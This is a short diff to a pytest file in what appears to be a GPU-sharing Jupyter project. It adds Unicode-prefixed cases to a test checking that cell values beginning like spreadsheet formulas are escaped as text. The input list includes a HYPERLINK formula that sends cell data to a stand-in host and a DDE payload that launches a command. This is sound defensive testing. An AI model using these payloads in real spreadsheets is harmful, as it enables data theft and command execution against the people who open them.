@@ -15,7 +15,8 @@ from jupyter_gpushare.usage import showback
 
 @pytest.mark.parametrize("text", [
     '=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
-    "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1", "  =1+1", "\uff1d1+1",
+    "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1", "  =1+1", "\uff1d1+1", "\u00a0=1+1",
+    "\u3000=1+1", "\u22121+1",
 ])
 def test_a_cell_that_starts_a_formula_is_text(text):
     assert spreadsheet.cell(text) == "'" + text
